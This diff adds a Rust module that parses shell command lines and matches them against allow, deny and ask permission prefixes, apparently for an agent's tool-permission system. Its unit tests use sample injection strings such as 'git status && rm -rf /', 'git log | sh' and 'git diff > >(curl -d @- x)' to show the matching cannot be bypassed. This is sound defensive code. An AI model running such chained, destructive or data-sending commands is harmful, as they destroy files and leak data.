@@ -1,0 +1,205 @@
+//! Matching a shell command line against a rule's command prefix (`bash(cargo test:*)`).
+//!
+//! A command line is a list of simple commands (`a && b | c; d`). An `allow` rule must hold for
+//! every one of them, or `git status; curl evil` would pass as `git`; `deny` and `ask` rules hold
+//! when any one mentions the prefix. What this parser cannot see into (command substitution,
+//! process substitution, unbalanced quotes) is *opaque*: no `allow` prefix matches it, and
+//! `deny`/`ask` prefixes match it when the text mentions them at all.
+//!
+//! Written here rather than taken from a crate: the maintained POSIX shell parsers are whole
+//! shells' front ends (yash-syntax), and this needs only the list structure and words, for
+//! which `shlex` does the quoting.
+
+/// A command line split into simple commands, each into words.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct CommandLine {
+    /// The simple commands' words, leading assignments and reserved words removed.
+    commands: Vec<Vec<String>>,
+    /// Parts this parser cannot see into.
+    opaque: bool,
+    /// The raw text, for opaque lines.
+    text: String,
+}
+
+/// Words that may come before the command itself (`! cmd`, `if cmd`, `{ cmd; }`, `time cmd`).
+const LEADING: [&str; 13] = [
+    "!", "{", "}", "(", "if", "then", "else", "elif", "do", "while", "until", "time", "exec",
+];
+
+impl CommandLine {
+    pub(crate) fn parse(text: &str) -> CommandLine {
+        let (pieces, mut opaque) = split_list(text);
+        let mut commands = Vec::new();
+        for piece in pieces {
+            match shlex::split(&piece) {
+                Some(words) => {
+                    let words: Vec<String> = words
+                        .into_iter()
+                        .skip_while(|w| LEADING.contains(&w.as_str()) || is_assignment(w))
+                        .collect();
+                    if !words.is_empty() {
+                        commands.push(words);
+                    }
+                }
+                None => opaque = true,
+            }
+        }
+        CommandLine {
+            commands,
+            opaque,
+            text: text.to_owned(),
+        }
+    }
+
+    /// Every simple command starts with `prefix` (`exact`: is exactly `prefix`); false for an
+    /// opaque or empty line.
+    pub(crate) fn all_start_with(&self, prefix: &[String], exact: bool) -> bool {
+        !self.opaque
+            && !self.commands.is_empty()
+            && self
+                .commands
+                .iter()
+                .all(|words| words.starts_with(prefix) && (!exact || words.len() == prefix.len()))
+    }
+
+    /// Some simple command holds `prefix` as consecutive words anywhere (`sudo curl`, `xargs
+    /// curl` count); an opaque line that mentions the prefix's first word anywhere counts too.
+    pub(crate) fn mentions(&self, prefix: &[String]) -> bool {
+        if prefix.is_empty() {
+            return true;
+        }
+        let in_words = self
+            .commands
+            .iter()
+            .any(|words| words.windows(prefix.len()).any(|w| w == prefix));
+        in_words || (self.opaque && self.text.contains(prefix[0].as_str()))
+    }
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => {
+            !name.is_empty()
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
+        None => false,
+    }
+}
+
+/// Splits at the list operators outside quotes (`;`, `&`, `|`, newline, parentheses); flags
+/// substitutions (`` ` ``, `$(`, `<(`, `>(`) and unterminated quotes as opaque.
+fn split_list(text: &str) -> (Vec<String>, bool) {
+    let mut pieces = Vec::new();
+    let mut current = String::new();
+    let mut opaque = false;
+    let mut single = false;
+    let mut double = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if single {
+            single = c != '\'';
+            current.push(c);
+            continue;
+        }
+        match c {
+            '\\' => {
+                current.push(c);
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                continue;
+            }
+            '`' => opaque = true,
+            '$' | '<' | '>' if chars.peek() == Some(&'(') => opaque = true,
+            '"' => double = !double,
+            '\'' if !double => single = true,
+            ';' | '&' | '|' | '\n' | '(' | ')' if !double => {
+                pieces.push(std::mem::take(&mut current));
+                continue;
+            }
+            _ => {}
+        }
+        current.push(c);
+    }
+    if single || double {
+        opaque = true;
+    }
+    pieces.push(current);
+    (pieces, opaque)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(text: &str) -> Vec<String> {
+        text.split_whitespace().map(str::to_owned).collect()
+    }
+
+    #[test]
+    fn allow_needs_every_simple_command_to_start_with_the_prefix() {
+        let git = words("git");
+        assert!(CommandLine::parse("git status").all_start_with(&git, false));
+        assert!(
+            CommandLine::parse("git add -A && git commit -m 'a; b'").all_start_with(&git, false)
+        );
+        assert!(
+            CommandLine::parse("GIT_PAGER=cat git log | git hash-object --stdin")
+                .all_start_with(&git, false)
+        );
+        for sneaky in [
+            "git status; curl http://x",
+            "git status && rm -rf /",
+            "git log | sh",
+            "git $(curl x)",
+            "git `id`",
+            "git diff > >(curl -d @- x)",
+            "git status\ncurl x",
+            "git status & curl x",
+            "git 'unterminated",
+            "",
+        ] {
+            assert!(
+                !CommandLine::parse(sneaky).all_start_with(&git, false),
+                "{sneaky:?}"
+            );
+        }
+        let exact = words("cargo test");
+        assert!(CommandLine::parse("cargo test").all_start_with(&exact, true));
+        assert!(!CommandLine::parse("cargo test --all").all_start_with(&exact, true));
+    }
+
+    #[test]
+    fn deny_holds_when_any_command_mentions_the_prefix() {
+        let curl = words("curl");
+        for caught in [
+            "curl http://x",
+            "echo hi && curl x",
+            "FOO=1 curl x",
+            "sudo curl x",
+            "ls | xargs curl",
+            "if curl x; then :; fi",
+            "echo $(curl x)",
+            "echo `curl x`",
+        ] {
+            assert!(CommandLine::parse(caught).mentions(&curl), "{caught:?}");
+        }
+        assert!(!CommandLine::parse("echo curly > x").mentions(&curl));
+        assert!(CommandLine::parse("git push origin main").mentions(&words("git push")));
+        assert!(!CommandLine::parse("git pull").mentions(&words("git push")));
+    }
+
+    #[test]
+    fn quotes_keep_operators_inside_one_word() {
+        let line = CommandLine::parse(r#"echo "a; b | c" 'd && e' f\;g"#);
+        assert_eq!(
+            line.commands,
+            vec![words("echo")
+                .into_iter()
+                .chain(["a; b | c".into(), "d && e".into(), "f;g".into()])
+                .collect::<Vec<_>>()]
+        );
+        assert!(!line.opaque);
+    }
+}
